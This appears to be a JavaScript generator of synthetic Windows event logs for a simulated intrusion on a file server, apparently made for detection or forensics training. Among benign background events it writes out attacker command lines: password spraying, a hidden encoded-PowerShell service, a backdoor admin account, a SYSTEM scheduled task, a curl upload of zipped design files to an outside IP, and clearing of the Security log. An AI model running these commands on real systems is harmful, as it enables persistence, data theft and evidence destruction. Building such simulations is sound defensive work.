/** SRV-FILE01, 14:14–14:35: passwords tried, one found; a desktop, an account, a service, an archive out, the log cleared. */
import { encoded, taskXml } from './desktop.mjs';
import { Security, write } from './security.mjs';
import { Sysmon } from './sysmon.mjs';
import { at, DOMAIN_SID, Host } from './world.mjs';

const S32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
const LOCAL_SID = 'S-1-5-21-1866204717-903316582-2246170935';
const FROM = { ip: '10.20.30.41', workstation: 'DESKTOP-HT01' };
/** Who works here: name, relative id; the n-th of them sits at DESKTOP-HT0n, 10.20.30.4n. */
const USERS = [
  ['김해태', 1104],
  ['이서연', 1107],
  ['박도윤', 1109],
  ['최지우', 1112],
  ['정하늘', 1115],
];

const SCM = {
  name: 'Service Control Manager',
  guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}',
  eventSourceName: 'Service Control Manager',
};
const TASKS = { name: 'Microsoft-Windows-TaskScheduler', guid: '{DE7B24EA-73C8-4A09-985D-5BDADCFA9017}' };
const SESSIONS = {
  name: 'Microsoft-Windows-TerminalServices-LocalSessionManager',
  guid: '{5D896912-022D-40AA-A3A8-4FA5515C76D7}',
};
const DEFENDER = { name: 'Microsoft-Windows-Windows Defender', guid: '{11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78}' };
const strings = (pairs) => Object.entries(pairs).map(([name, value]) => [name, 'string', value]);

export function server() {
  const host = new Host({
    name: 'SRV-FILE01',
    id: '5be07719',
    ip: '10.20.30.10',
    seed: 20260318,
    booted: at('00:12:40'),
  });
  const sysmon = new Sysmon(host);
  const security = new Security(host);
  sysmon.onStart = (ms, process) => security.created(ms + 2, process);
  const { random } = host;
  const services = host.process({ image: `${S32}services.exe` });
  const schedule = host.process({
    image: `${S32}svchost.exe`,
    command: `${S32}svchost.exe -k netsvcs -p -s Schedule`,
    parent: services,
  });

  // An ordinary afternoon of a file server: people come for their files and go.
  for (let ms = at('13:40:05'); ms < at('14:44:00'); ms += random.int(25_000, 85_000)) {
    const seat = random.int(1, USERS.length);
    const [user, rid] = USERS[seat - 1];
    const logon = host.logon({ user, sid: `${DOMAIN_SID}-${rid}`, logonId: random.int(0x400000, 0x9fffff), ms });
    security.loggedOn(ms, logon, 3, {
      ip: `10.20.30.4${seat}`,
      port: random.int(49_700, 61_000),
      workstation: `DESKTOP-HT0${seat}`,
    });
    security.loggedOff(ms + random.int(8_000, 90_000), logon, 3);
  }
  // One who mistypes, once, and then gets it right.
  security.failed(at('13:58:41.220'), '박도윤', { ip: '10.20.30.43', port: 50_112, workstation: 'DESKTOP-HT03' });
  for (let ms = at('13:45:00'); ms < at('14:44:00'); ms += 600_000) {
    security.loggedOn(ms + 120, host.system, 5, { elevated: true });
    sysmon.start(
      ms + 400,
      { image: `${S32}taskhostw.exe`, command: 'taskhostw.exe', parent: schedule },
      random.int(4, 40),
    );
    sysmon.start(
      ms + 90_400,
      { image: `${S32}wbem\\WmiPrvSE.exe`, command: `${S32}wbem\\wmiprvse.exe -secured -Embedding`, parent: schedule },
      random.int(60, 90),
    );
    write(
      host,
      ms + 500,
      SCM,
      'System',
      7036,
      strings({
        param1: random.pick(['Windows Update', 'Software Protection', 'Windows Modules Installer']),
        param2: random.pick(['실행', '중지']),
      }),
      { keywords: 0x8080000000000000n },
    );
    write(
      host,
      ms + 900,
      TASKS,
      'Microsoft-Windows-TaskScheduler/Operational',
      201,
      strings({
        TaskName: '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
        TaskInstanceId: '{8C1D3E55-2B3A-4C0E-9F11-7D5A0B6C1E20}',
        ActionName: `${S32}defrag.exe`,
        ResultCode: '0',
      }),
      { task: 201, opcode: 2 },
    );
  }

  // 1. Names and passwords, one a few seconds after the other, until one fits.
  const tried = [
    ...new Array(6).fill('Administrator'),
    'admin',
    'backup',
    'test',
    ...new Array(5).fill('관리자'),
    ...new Array(13).fill('svc-backup'),
  ];
  let ms = at('14:14:02.120');
  for (const user of tried) {
    security.failed(ms, user, {
      ...FROM,
      port: random.int(49_700, 61_000),
      unknownUser: ['admin', 'backup', 'test', '관리자'].includes(user),
    });
    ms += random.int(5_200, 9_400);
  }
  const sid = `${DOMAIN_SID}-1120`;
  const network = host.logon({
    user: 'svc-backup',
    sid,
    logonId: 0xa41c07,
    ms: at('14:17:40'),
    session: 0,
    integrity: 'High',
  });
  security.loggedOn(at('14:17:40.655'), network, 3, { ...FROM, port: 52_871, elevated: true });
  security.loggedOn(at('14:18:02.481'), { ...network, logonId: 0xa43d90 }, 3, {
    ...FROM,
    port: 52_990,
    elevated: true,
  });

  // 2. A service from afar, then a desktop.
  const remote = `powershell.exe -nop -w hidden -enc ${encoded("Write-Output 'haetae sample'")}`;
  write(
    host,
    at('14:18:40.300'),
    SCM,
    'System',
    7045,
    strings({
      ServiceName: 'HncSvc',
      ImagePath: `%COMSPEC% /c ${remote}`,
      ServiceType: '사용자 모드 서비스',
      StartType: '요청 시작',
      AccountName: 'LocalSystem',
    }),
    { keywords: 0x8080000000000000n, userSid: sid },
  );
  const service = sysmon.start(
    at('14:18:41.007'),
    { image: `${S32}cmd.exe`, command: `${S32}cmd.exe /c ${remote}`, parent: services },
    3,
  );
  sysmon.start(at('14:18:41.190'), { image: POWERSHELL, command: remote, parent: service }, 2);
  const desk = host.logon({
    user: 'svc-backup',
    sid,
    logonId: 0xa55e12,
    ms: at('14:19:12'),
    session: 2,
    integrity: 'High',
  });
  security.loggedOn(at('14:19:12.900'), desk, 10, { ip: FROM.ip, port: 0, workstation: 'SRV-FILE01', elevated: true });
  for (const [time, eventId] of [
    ['14:19:13.020', 21],
    ['14:19:13.900', 22],
  ]) {
    write(host, at(time), SESSIONS, 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', eventId, [], {
      keywords: 0x1000000000000000n,
      userData: {
        name: 'EventXML',
        xmlns: 'Event_NS',
        fields: strings({ User: desk.account, SessionID: '2', Address: FROM.ip }),
      },
    });
  }
  const explorer = host.process({
    image: 'C:\\Windows\\explorer.exe',
    command: 'C:\\Windows\\Explorer.EXE',
    logon: desk,
    ms: at('14:19:14'),
  });
  const run = (time, seconds, parent, image, command) =>
    sysmon.start(at(time), { image, command, parent, logon: parent.logon, cwd: 'C:\\Users\\svc-backup\\' }, seconds);
  const shell = run('14:20:05.118', 640, explorer, `${S32}cmd.exe`, `"${S32}cmd.exe"`);
  run('14:20:11.660', 1, shell, `${S32}whoami.exe`, 'whoami  /groups');

  // 3. An account of their own.
  const added = `${LOCAL_SID}-1003`;
  const add = run('14:20:38.001', 1, shell, `${S32}net.exe`, 'net  user helpdesk2 Sample-0317 /add /expires:never');
  run('14:20:38.052', 1, add, `${S32}net1.exe`, `${S32}net1  user helpdesk2 Sample-0317 /add /expires:never`);
  security.userAdded(at('14:20:38.211'), desk, 'helpdesk2', added);
  const group = run('14:20:51.730', 1, shell, `${S32}net.exe`, 'net  localgroup Administrators helpdesk2 /add');
  run('14:20:51.790', 1, group, `${S32}net1.exe`, `${S32}net1  localgroup Administrators helpdesk2 /add`);
  security.memberAdded(at('14:20:51.934'), desk, added, 'Administrators', 'S-1-5-32-544');
  const task = run(
    '14:22:30.415',
    1,
    shell,
    `${S32}schtasks.exe`,
    'schtasks  /create /sc onstart /ru SYSTEM /tn "\\Microsoft\\Windows\\HncBackup" /tr "C:\\ProgramData\\HncUpdate\\hncupd.exe /s" /f',
  );
  security.task(
    at('14:22:30.660'),
    desk,
    task,
    '\\Microsoft\\Windows\\HncBackup',
    taskXml('C:\\ProgramData\\HncUpdate\\hncupd.exe', '/s', 'PT1H', desk.account),
  );
  write(
    host,
    at('14:22:30.655'),
    TASKS,
    'Microsoft-Windows-TaskScheduler/Operational',
    106,
    strings({ TaskName: '\\Microsoft\\Windows\\HncBackup', UserContext: desk.account }),
    { task: 106 },
  );
  write(
    host,
    at('14:23:02.140'),
    DEFENDER,
    'Microsoft-Windows-Windows Defender/Operational',
    5001,
    strings({ 'Product Name': 'Microsoft Defender 바이러스 백신', 'Product Version': '4.18.25020.1009' }),
  );

  // 4. The drawings leave, and the log goes.
  const pack = run(
    '14:24:00.340',
    130,
    shell,
    POWERSHELL,
    'powershell.exe  -c "Compress-Archive -Path D:\\공유\\설계\\* -DestinationPath C:\\Users\\Public\\b.zip"',
  );
  sysmon.file(at('14:24:01.870'), pack, 'C:\\Users\\Public\\b.zip');
  const upload = run(
    '14:27:11.905',
    66,
    shell,
    `${S32}curl.exe`,
    'curl.exe  -s -F "f=@C:\\Users\\Public\\b.zip" http://198.51.100.23/up',
  );
  sysmon.connect(at('14:27:12.090'), upload, '198.51.100.23', 80, { service: 'http' });
  run('14:30:59.700', 1, shell, `${S32}wevtutil.exe`, 'wevtutil  cl Security');
  security.cleared(at('14:31:00.120'), desk);
  write(
    host,
    at('14:32:05.400'),
    SESSIONS,
    'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
    24,
    [],
    {
      keywords: 0x1000000000000000n,
      userData: {
        name: 'EventXML',
        xmlns: 'Event_NS',
        fields: strings({ User: desk.account, SessionID: '2', Address: FROM.ip }),
      },
    },
  );
  security.loggedOff(at('14:32:06.010'), desk, 10);
  return { host };
}
